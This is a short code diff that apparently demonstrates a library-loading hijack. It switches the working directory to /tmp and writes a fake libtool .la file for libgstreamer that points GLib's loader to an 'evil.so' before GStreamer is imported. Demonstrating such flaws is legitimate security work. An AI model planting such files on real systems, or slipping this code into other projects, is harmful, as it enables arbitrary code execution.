@@ -1,5 +1,10 @@
+import os
+
 import gi
 
+os.chdir('/tmp')
+with open('libgstreamer-1.0.so.0.la', 'w') as file:  # that GLib would follow
+    file.write("dlname='evil.so'\nlibdir='/tmp'\ninstalled=yes\n")
 gi.require_version('Gst', '1.0')
 from gi.repository import Gst
 
